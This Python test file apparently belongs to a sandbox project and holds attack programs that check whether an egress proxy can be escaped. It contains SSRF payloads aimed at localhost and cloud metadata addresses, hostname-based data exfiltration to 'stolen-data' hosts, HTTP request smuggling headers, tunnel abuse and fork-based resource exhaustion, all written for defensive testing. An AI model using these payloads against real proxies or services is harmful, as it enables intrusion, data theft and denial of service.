"""Attacks by programs that were given a gate: it is the only way out, so it is what they try to bend."""

import dataclasses

from app.sandbox.results import Limits
from tests.sandbox.attacks.attack import Attack
from tests.sandbox.attacks.network import NETWORK

PATIENT = Limits(wall_s=25.0, memory=256 * 2**20)

# What every one of them has: raw bytes to the gate, and a request of a host by TLS or without.
ASK = """
import ssl, urllib.error, urllib.request
GATE = ('127.0.0.1', 3128)
def raw(data, seconds=8):
    got = b''
    with socket.create_connection(GATE, seconds) as s:
        s.sendall(data)
        try:
            while len(got) < 4_000_000:
                block = s.recv(65536)
                if not block:
                    break
                got += block
                if b'\\r\\n\\r\\n' in got and b'403' in got[:20]:
                    break
        except OSError:
            pass
    return got
def refused_by_gate(data):
    got = raw(data.encode('latin-1') if isinstance(data, str) else data)
    if got and not got.startswith(b'HTTP/1.1 403'):
        print('ESCAPED:', data[:80], got[:300])
    else:
        print('refused:', got[:120])
def get(url, seconds=12):
    return urllib.request.urlopen(url, timeout=seconds).read(1_000_000)
def may_not_get(url):
    try:
        print('ESCAPED:', url, get(url)[:300])
    except (OSError, ValueError) as error:
        print('refused:', type(error).__name__, str(error)[:200])
def tunnel(host):
    s = socket.create_connection(GATE, 8)
    s.sendall(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n'.encode())
    if b' 200 ' not in s.recv(4096):
        raise ConnectionError('no tunnel')
    return s
def by_tls(host):
    return ssl.create_default_context().wrap_socket(tunnel(host), server_hostname=host)
"""


def _gate(name: str, source: str, **more: object) -> Attack:
    return dataclasses.replace(
        Attack(name, ASK + source, gate=True, limits=PATIENT),
        **more,  # type: ignore[arg-type]
    )


BEYOND = [
    _gate(
        "have the gate reach this machine by an allowed name",
        """
for host in INNER_HOSTS:
    may_not_get(f'http://{host}/')
    may_not_get(f'https://{host}/')
""",
    ),
    _gate(
        "have a name change its address after it was checked",
        """
for _ in range(12):
    attempt(lambda: get(f'http://{REBINDING}/closes?{_}'))
""",
    ),
]
"""What only the gate's look at addresses holds back."""

REACHING = [
    *BEYOND,
    _gate(
        "have the gate reach this machine by its address, in every spelling",
        """
for host in ('127.0.0.1', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '0', '[::1]', '[::ffff:7f00:1]', '[::]',
             'localhost', 'localhost.', '169.254.169.254', '[fd00:ec2::254]', '127.0.0.1%2f', '127.0.0.1:80',
             *ADDRESSES):
    refused_by_gate(f'GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')
    refused_by_gate(f'GET http://{GOOD}@{host}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
    refused_by_gate(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')
""",
    ),
    _gate(
        "be redirected to this machine, to a cloud's metadata, to a file",
        """
for path in ('to-private', 'to-metadata', 'to-other', 'to-file'):
    may_not_get(f'https://{GOOD}/{path}')
""",
    ),
    _gate(
        "fetch from hosts that are not allowed, or only look allowed",
        """
for host in ('example.org', f'{GOOD}.evil.net', f'evil{GOOD}', f'a.{GOOD}', GOOD.replace('.', '-'), 'com', ''):
    refused_by_gate(f'GET http://{host}/ HTTP/1.1\\r\\nHost: {host or "x"}\\r\\n\\r\\n')
    refused_by_gate(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
""",
    ),
    _gate(
        "smuggle data out in the name of a host",
        """
for host in (f'stolen-data.{GOOD}', 'stolen-data.example.net', f'{"x" * 63}.example.net'):
    refused_by_gate(f'GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')
    refused_by_gate(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')
""",
    ),
    _gate(
        "open a tunnel to other services",
        """
for port in (22, 25, 53, 80, 8443, PORT, 0, 65536, 99999, ''):
    refused_by_gate(f'CONNECT {GOOD}:{port} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
for port in (22, 443, PORT):
    refused_by_gate(f'GET http://{GOOD}:{port}/ HTTP/1.1\\r\\nHost: {GOOD}:{port}\\r\\n\\r\\n')
for scheme in ('ftp', 'file', 'gopher', 'ws', 'https', 'javascript'):
    refused_by_gate(f'GET {scheme}://{GOOD}/ HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
""",
    ),
    _gate(
        "speak something else than TLS in a tunnel",
        """
for data in (b'GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n', b'SSH-2.0-x\\r\\n', b'\\0' * 4000,
             b'\\x16\\x03\\x01\\xff\\xff' + b'x' * 5000):
    with tunnel(GOOD) as s:
        s.sendall(data)
        try:
            got = s.recv(4096)
        except OSError:
            got = b''
        print('ESCAPED' if b'HTTP' in got or b'SSH' in got else 'refused:', got[:60])
""",
    ),
    _gate(
        "speak to another host in a tunnel",
        """
for first, host in (('GET /', OTHER), (f'GET https://{OTHER}/', OTHER), ('GET /', f'{GOOD}:8443'),
                    (f'CONNECT {OTHER}:443', OTHER), ('GET /', '127.0.0.1')):
    request = f'{first} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'
    with by_tls(GOOD) as s:
        s.sendall(request.encode())
        got = s.recv(4096)
        print('refused' if b' 403 ' in got[:20] else 'ESCAPED:', got[:200])
""",
    ),
    _gate(
        "have the gate's authority vouch for another host",
        """
for host in (OTHER, 'bank.example.org'):
    def ask():
        s = tunnel(GOOD)
        return ssl.create_default_context().wrap_socket(s, server_hostname=host)
    must_fail(ask)
text = open(os.environ['SSL_CERT_FILE']).read()
print('ESCAPED: a key' if 'PRIVATE' in text or text.count('BEGIN') != 1 else 'one certificate')
must_fail(lambda: open(os.environ['SSL_CERT_FILE'], 'a'))
""",
    ),
]

SMUGGLING = [
    _gate(
        "smuggle a second request into one",
        """
head = f'GET http://{GOOD}/closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\n'
inner = f'GET http://{OTHER}/secret HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n'
for more in (f'Content-Length: {len(inner)}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}',
             f'Transfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n0\\r\\n\\r\\n{inner}',
             f'Content-Length: 1\\r\\nContent-Length: {len(inner)}\\r\\n\\r\\n{inner}',
             f'Content-Length: +{len(inner)}\\r\\n\\r\\n{inner}', f'Content-Length: 0x10\\r\\n\\r\\n{inner}',
             f'Transfer-Encoding: xchunked\\r\\n\\r\\n{inner}',
             f'Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}',
             f'Host: {OTHER}\\r\\n\\r\\n', f'X-A: b\\rHost: {OTHER}\\r\\n\\r\\n', 'X-A: b\\0c\\r\\n\\r\\n'):
    refused_by_gate(head + more)
""",
    ),
    _gate(
        "put line ends into an address or a method",
        """
for target in (f'http://{GOOD}/a\\tb', f'http://{GOOD}/\\x80', f'http://{GOOD}\\\\@{OTHER}/', f'http://{GOOD}#@{OTHER}/',
               f'http://{GOOD};{OTHER}/', f'http://{GOOD},{OTHER}/', f'//{GOOD}/', '*', ''):
    refused_by_gate(f'GET {target} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
for method in ('DELETE', 'PUT', 'POST', 'PATCH', 'TRACE', 'OPTIONS', 'get', 'GET\\tX', 'PROPFIND'):
    refused_by_gate(f'{method} http://{GOOD}/closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
""",
    ),
    _gate(
        "send a lot out with a request",
        """
for size in (1, 100_000, 20_000_000):
    for method in ('GET', 'POST', 'PUT'):
        head = f'{method} http://{GOOD}/closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\nContent-Length: {size}\\r\\n\\r\\n'
        try:
            refused_by_gate(head.encode() + b'x' * size)
        except OSError as error:
            print('refused:', type(error).__name__)
refused_by_gate(f'GET http://{GOOD}/closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\nX-Data: {"x" * 60_000}\\r\\n\\r\\n')
refused_by_gate(f'GET http://{GOOD}/{"x" * 60_000} HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n')
""",
    ),
    _gate(
        "turn the connection into another",
        """
import base64
head = f'GET /closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\n'
key = 'Sec-WebSocket-Key: ' + base64.b64encode(bytes(16)).decode()
for more in ('Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n' + key,
             'Upgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__'):
    with by_tls(GOOD) as s:
        s.sendall((head + more + '\\r\\n\\r\\n').encode())
        got = s.recv(4096)
        print('ESCAPED:' if b' 101 ' in got[:20] else 'held:', got[:60])
refused_by_gate(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')
""",
    ),
    _gate(
        "be served by somebody who only says to be the host",
        """
for host in FORGED_HOSTS:
    may_not_get(f'https://{host}/closes')
""",
    ),
]

FILLING = [
    _gate("fetch ten gigabytes", "may_not_get(f'https://{GOOD}/endless')\nmay_not_get(f'https://{GOOD}/chunks')\n"),
    _gate("fetch what unpacks to much more", "may_not_get(f'https://{GOOD}/bomb')\n"),
    _gate(
        "fetch what never ends to come",
        "for path in ('slow-body', 'slow-head', 'silent'):\n    may_not_get(f'https://{GOOD}/{path}')\n",
    ),
    _gate(
        "open more connections than there are",
        """
held = []
for _ in range(240):
    try:
        s = socket.socket()
        s.settimeout(0.05)
        held.append(s)
        s.connect(GATE)
        s.send(b'GET ')
    except OSError:
        pass
print(len(held))
for s in held:
    s.close()
print(get(f'https://{GOOD}/closes'))
""",
    ),
    _gate(
        "ask and never read",
        """
held = []
request = f'GET http://{GOOD}/closes HTTP/1.1\\r\\nHost: {GOOD}\\r\\n\\r\\n'.encode() * 2000
end = time.monotonic() + 4
while time.monotonic() < end and len(held) < 200:
    try:
        s = socket.socket()
        s.settimeout(0.05)
        held.append(s)
        s.connect(GATE)
        s.sendall(request)
    except OSError:
        pass
print(len(held))
""",
    ),
    _gate(
        "fill the kernel with connections to oneself",
        """
for _ in range(12):
    if os.fork() == 0:
        held = []
        end = time.monotonic() + 8
        while time.monotonic() < end:
            s = socket.socket()
            s.settimeout(0.01)
            try:
                for port in range(32768 + os.getpid() % 7, 60999, 7):
                    try:
                        s.connect(('127.0.0.1', port))
                        break
                    except ConnectionRefusedError:
                        continue
                s.setblocking(False)
                while True:
                    s.send(b'x' * 65536)
            except BlockingIOError:
                held.append(s)
            except OSError:
                s.close()
        os._exit(0)
time.sleep(9)
""",
        ends=("exited", "out_of_memory", "timed_out"),
    ),
    _gate(
        "go on fetching after the end",
        """
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        while True:
            attempt(lambda: get(f'https://{GOOD}/closes?{time.time()}'))
print('done')
""",
    ),
]

SOCKETS = [
    _gate(
        "open any other socket than the gate's kind",
        """
for family in range(46):
    for kind in range(1, 11):
        for protocol in (0, 1, 6, 17, 132, 136, 255, 262):
            if family == 1 or (family == 2 and kind == 1 and protocol in (0, 6)):
                continue
            must_fail(lambda: call(NR['socket'], family, kind, protocol))
            must_fail(lambda: call(NR['socket'], family, kind | 0o2000000 | 0o4000, protocol))
must_fail(lambda: call(NR['socket'], 2 | 1 << 32, 3, 1))
must_fail(lambda: socket.socketpair(socket.AF_INET))
""",
    ),
    _gate(
        "be a server where a client is allowed",
        """
s = socket.socket()
must_fail(lambda: s.bind(('127.0.0.1', 0)))
must_fail(lambda: s.bind(('0.0.0.0', 8000)))
must_fail(lambda: s.listen())
must_fail(lambda: s.accept())
must_fail(lambda: socket.create_server(('127.0.0.1', 0)))
must_fail(lambda: socket.create_server(GATE, reuse_port=True))
""",
    ),
    _gate(
        "find a way beside the gate",
        """
for host in ('127.0.0.1', '127.8.9.10', *ADDRESSES, '192.0.2.1', '1.1.1.1', '169.254.169.254', '10.0.0.1'):
    for port in (PORT, 22, 53, 80, 443, 3129):
        must_fail(lambda: socket.create_connection((host, port), 0.2))
for name in ('stolen-data.example.com', GOOD):
    must_fail(lambda: socket.getaddrinfo(name, 443))
""",
    ),
    _gate(
        "take the gate's own handles",
        """
for fd in range(3, 1024):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    print('ESCAPED: a socket', fd, s.family, s)
for path in ('/gate', '/program/gate.sock', '/tmp/gate.sock', '\\0gate'):
    must_fail(lambda: socket.socket(socket.AF_UNIX).connect(path))
""",
    ),
    _gate(
        "change what the kernel holds for a connection",
        """
s = socket.create_connection(GATE, 5)
for level, name in ((1, 7), (1, 8), (1, 32), (1, 33), (6, 19), (6, 31), (6, 10), (6, 13), (0, 35), (0, 4), (41, 26)):
    must_fail(lambda: s.setsockopt(level, name, 1 << 26))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
print('an ordinary option passes')
""",
    ),
]

# The same as without a gate: what talked to nobody then talks to nobody now. One says what a gate does change.
AGAIN = [
    dataclasses.replace(attack, name=f"{attack.name}, with a gate", gate=True, control=False)
    for attack in NETWORK
    if attack.name != "open a socket of the internet in every way there is"
]

FETCHING = [*REACHING, *SMUGGLING, *FILLING, *SOCKETS, *AGAIN]
